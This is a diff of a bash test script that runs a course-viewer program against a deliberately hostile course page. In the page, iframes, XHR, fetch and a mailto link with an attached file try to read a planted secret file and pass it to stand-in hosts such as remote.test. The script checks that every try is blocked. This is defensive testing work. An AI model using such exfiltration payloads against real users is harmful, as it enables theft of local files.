@@ -1,15 +1,12 @@
 #!/usr/bin/env bash
 # Drives the real program on a demo course made hostile: its results page
-# (with its name in other letter case) tries to read a secret planted beside
-# the course, through XMLHttpRequest, fetch, a frame and a picture at file:
-# addresses, by climbing out of the course folder and through a link leading
-# out of it; a web page it frames tries the same and the course's own files;
-# a press on it opens windows and goes to a mail address with a file attached
-# from its mousedown handlers; a click on a mail link with a file attached
-# opens mail without it. Its own files, in any letter case, must still
-# show and read. Each try reports itself as a request to a local server, which
-# also stands in for the web; a recording xdg-open stands in for the desktop's
-# opener; nothing leaves the machine.
+# (named in other letter case) tries to read a secret planted beside the
+# course (XMLHttpRequest, fetch, a frame, a picture at file: addresses,
+# climbing out, a link leading out); a web page it frames tries the same and
+# the course's own files; its mousedown handlers open windows and go to a mail
+# address with a file attached. Its own files, in any letter case, must still
+# show and read. Each try reports itself to a local server, which stands in
+# for the web, as a recording xdg-open does for the desktop's opener.
 # Checks the reports, the addresses opened and the screen.
 # Usage: run-hostile-course.sh TOVRELLE_BINARY SOURCE_DIR WORK_DIR
 set -euo pipefail
@@ -31,19 +28,17 @@ ln -s "$work/secret.txt" "$course/Media/leak.txt"
 rm "$course/Media/frel_mabr.htm"
 cat >"$course/Media/Frel_Mabr.HTM" <<PAGE
 <html><body style="margin:0;background:#1d054f;color:#fff;font:14px sans-serif">
+<style>.press { position:absolute; left:0; width:300px; height:50px; background:#404040 }</style>
 <p>Hostile course page</p>
 <img id="picture" src="IMG_LESSONS.JPG" style="position:absolute;left:400px;top:60px;width:200px;height:100px">
 <iframe id="own" src="../sponsors/INDEX.HTM" style="position:absolute;left:400px;top:180px;width:300px;height:100px"></iframe>
 <iframe id="outside" src="file://$work/secret.txt" style="width:10px;height:10px"></iframe>
 <iframe src="http://remote.test/remote-hostile?secret=$work/secret.txt" style="width:10px;height:10px"></iframe>
-<div id="opener" style="position:absolute;left:0;top:290px;width:300px;height:50px;background:#404040">Opens</div>
-<div id="mover" style="position:absolute;left:0;top:350px;width:300px;height:50px;background:#404040">Moves</div>
-<a target="_blank" href="http://www.tovrelle.com/clicked-link"
-   style="position:absolute;left:0;top:410px;width:300px;height:50px;background:#204010">Window</a>
-<a href="mailto:learner@example.com?subject=Hi&amp;attach=$work/secret.txt"
-   style="position:absolute;left:0;top:470px;width:300px;height:50px;background:#402010">Mail</a>
-<a id="sabotaged" target="_blank" href="http://www.tovrelle.com/sabotaged"
-   style="position:absolute;left:0;top:530px;width:300px;height:30px;background:#204010">Sabotaged</a>
+<div id="opener" class="press" style="top:290px">Opens</div>
+<div id="mover" class="press" style="top:350px">Moves</div>
+<a class="press" style="top:410px" target="_blank" href="http://www.tovrelle.com/clicked-link">Window</a>
+<a class="press" style="top:470px" href="mailto:learner@example.com?subject=Hi&amp;attach=$work/secret.txt">Mail</a>
+<a id="sabotaged" class="press" style="top:530px;height:30px" target="_blank" href="http://www.tovrelle.com/sabotaged">Sabotaged</a>
 <script src="http://report.test/tries.js"></script><script>
 readable('xhr-file', 'file://$work/secret.txt', 'SECRET');
 readable('xhr-climb', '../../secret.txt', 'SECRET');
@@ -103,26 +98,11 @@ sleep 2
 shot pressed
 kill -0 "$app" 2>/dev/null || fail "the program ended by itself"
 
-expected_reports="fetch-file=blocked
-frame-file=blocked
-frame-own=read
-img-file=blocked
-img-own=shown
-remote-fetch-file=blocked
-remote-img-course=blocked
-remote-img-file=blocked
-remote-xhr-course=blocked
-remote-xhr-file=blocked
-xhr-absolute=blocked
-xhr-climb=blocked
-xhr-escaped=blocked
-xhr-file=blocked
-xhr-link=blocked
-xhr-own=read"
-[ "$(reports)" = "$expected_reports" ] || fail "reports:
-$(reports)
-expected:
-$expected_reports"
+expected_reports="fetch-file=blocked frame-file=blocked frame-own=read img-file=blocked img-own=shown
+remote-fetch-file=blocked remote-img-course=blocked remote-img-file=blocked remote-xhr-course=blocked
+remote-xhr-file=blocked xhr-absolute=blocked xhr-climb=blocked xhr-escaped=blocked xhr-file=blocked
+xhr-link=blocked xhr-own=read"
+[ "$(reports | xargs)" = "$(echo $expected_reports)" ] || fail "reports: $(reports | xargs)"
 grep -q SECRET "$work/requests.log" && fail "the secret reached the server"
 
 # The sabotaged link's own window may or may not come: the engine lets a
